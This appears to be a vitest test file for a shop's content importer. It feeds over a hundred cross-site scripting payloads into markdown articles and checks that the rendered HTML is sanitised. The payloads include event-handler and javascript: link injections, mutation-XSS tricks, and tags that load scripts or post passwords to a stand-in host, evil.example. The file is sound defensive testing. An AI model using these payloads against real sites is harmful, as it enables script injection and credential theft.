import { mkdtemp, mkdir, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { articlesView } from '@bottega/contract/articles/calls.ts'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { contentKinds } from '../../modules.ts'
import { openTestShop, type TestShop } from '../../testing/test-shop.ts'
import { importContent } from '../publishing/import-content.ts'

const events = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'OnMouseOver',
]
const handlers = [
  'img src=x',
  'svg',
  'body',
  'details open',
  'input autofocus',
  'video',
  'iframe srcdoc=x',
  'math',
  'a href=#',
]
const links = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;&#x61;vascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/x',
  ' javascript:alert(1)',
]
const elements = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example/>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=https://evil.example/x.swf>',
  '<form action=https://evil.example><input name=password></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg><script>alert(1)</script></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<p style="background:url(https://evil.example)">x</p>',
  '<a href="https://ok.example" target=_top onclick=alert(1)>x</a>',
]
const payloads = [
  ...handlers.flatMap((element) => events.map((event) => `<${element} ${event}=alert(1)>`)),
  ...links.flatMap((link) => [`<a href="${link}">x</a>`, `<img src="${link}">`, `[x](${link})`]),
  ...elements,
]

let shop: TestShop
let folder: string
beforeAll(async () => {
  shop = await openTestShop()
  folder = await mkdtemp(join(tmpdir(), 'bottega-injection-'))
  await mkdir(join(folder, 'articles'))
  await Promise.all(
    payloads.map((payload, index) => {
      const text = JSON.stringify(payload)
      const front = [
        'type: post',
        'date: 2026-11-01',
        `title: ${text}`,
        `summary: ${text}`,
        `seo: { title: ${text}, description: ${text} }`,
      ]
      return writeFile(
        join(folder, 'articles', `p${index}.md`),
        `---\n${front.join('\n')}\n---\nPrima.\n\n${payload}\n`,
      )
    }),
  )
  const { errors } = await importContent(shop.shop.db, contentKinds, folder)
  expect(errors).toEqual([])
})
afterAll(async () => {
  await shop.close()
  await rm(folder, { recursive: true })
})

/** The tags that are left; what is escaped is text. */
const tagsOf = (html: string) => html.match(/<[^>]*>?/g) ?? []
const forbidden =
  /<\/?(?:script|style|svg|math|iframe|object|embed|form|input|base|link|meta|template|video|body|textarea|noscript|xmp)|\son\w+\s*=|(?:java|vb)script:|data:|style=|srcdoc|evil\.example/i

test('there are at least a hundred payloads', () => {
  expect(payloads.length).toBeGreaterThanOrEqual(100)
})

describe('markup of an article neither runs nor leaves anything that could [articles-11]', () => {
  test.each(payloads.map((payload, index) => [payload, index] as const))('%s', async (payload, index) => {
    const { article } = (await shop.anonymous().call(articlesView, { query: { slug: `p${index}` } })).data
    for (const tag of tagsOf(article.content)) expect(tag).not.toMatch(forbidden)
    expect(article.content).toContain('<p>Prima.</p>')
    // Titles and descriptions are text: they say what was written, and are escaped where they are shown.
    expect(article.title).toBe(payload)
    expect(article.meta).toEqual({ seo_title: payload, seo_description: payload })
  })
})
